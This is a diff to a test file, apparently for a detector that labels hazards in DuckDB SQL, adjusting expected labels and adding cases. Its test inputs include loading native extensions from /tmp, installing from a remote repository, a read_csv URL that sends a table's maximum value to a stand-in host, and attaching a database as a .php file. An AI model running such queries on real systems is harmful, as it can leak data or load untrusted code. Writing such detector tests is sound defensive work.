@@ -48,12 +48,13 @@ expectHazards([
 
 // Files of data at fixed addresses, and DuckDB's own extensions.
 expectHazards([
-  ['INSTALL httpfs; LOAD httpfs', 'extension'],
+  ['INSTALL httpfs; LOAD httpfs', 'bundled-extension'],
   ["LOAD '/tmp/x.duckdb_extension'", 'native-code'],
   ["INSTALL x FROM 'http://a.example/repository'", 'native-code network'],
-  ["SELECT * FROM read_parquet('s3://bucket/a/*.parquet')", 'reads-address'],
+  ["SELECT * FROM read_parquet('s3://bucket/a/*.parquet')", 'reads-bucket'],
   ["SELECT * FROM read_csv('https://a.example/x.csv?d=' || (SELECT max(a) FROM t))", 'network'],
   ["SELECT * FROM read_csv('https://a.example/x.csv?d=1')", 'network'],
   ["ATTACH 'x.php' AS a", 'writes-files'],
-  ["ATTACH 'other.db' AS a", 'attach'],
+  ["ATTACH '/srv/other.db' AS a", 'attach'],
+  ["ATTACH 'other.db' AS a", ''],
 ]);
